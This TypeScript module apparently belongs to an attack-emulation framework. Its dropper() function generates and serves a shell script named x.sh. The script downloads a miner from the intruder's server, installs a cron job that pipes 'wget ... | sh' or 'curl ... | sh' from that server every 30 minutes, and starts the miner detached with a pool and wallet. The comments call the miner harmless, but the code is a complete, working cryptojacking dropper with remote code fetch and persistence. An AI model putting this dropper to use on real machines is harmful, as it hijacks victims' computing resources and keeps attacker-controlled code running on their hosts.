// What intruders run once they are in: fetches the harmless miner, starts it, and leaves a line for cron. Idempotent, as cron runs it again.
import type { Stage } from './stage.ts'

export interface Drop {
  /** Where the miner is put. */
  readonly path: string
  readonly fetch?: 'wget' | 'curl'
  readonly cron?: boolean
}

/** Puts x.sh on the intruder's web server and gives the line that fetches and runs it. */
export function dropper(stage: Stage, { path, fetch = 'wget', cron = true }: Drop): string {
  const { SHOP = '', POOL = '', WALLET = '' } = stage.values
  const get = fetch === 'wget' ? `wget -q -O "$1" http://${SHOP}/$2` : `curl -fsSL -o "$1" http://${SHOP}/$2`
  const line = fetch === 'wget' ? `wget -q -O - http://${SHOP}/x.sh | sh` : `curl -fsSL http://${SHOP}/x.sh | sh`
  const name = path.slice(path.lastIndexOf('/') + 1)
  stage.offer(
    'x.sh',
    `#!/bin/sh
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
get() { ${get}; }
pgrep -x ${name} >/dev/null && exit 0
mkdir -p ${path.slice(0, path.lastIndexOf('/'))}
get ${path} mimic
chmod 755 ${path}
${cron ? `(crontab -l 2>/dev/null | grep -v x.sh; echo "*/30 * * * * ${line}") | crontab -` : ''}
setsid ${path} -o ${POOL} -u ${WALLET} -p x -k </dev/null >/dev/null 2>&1 &
`,
  )
  return line
}
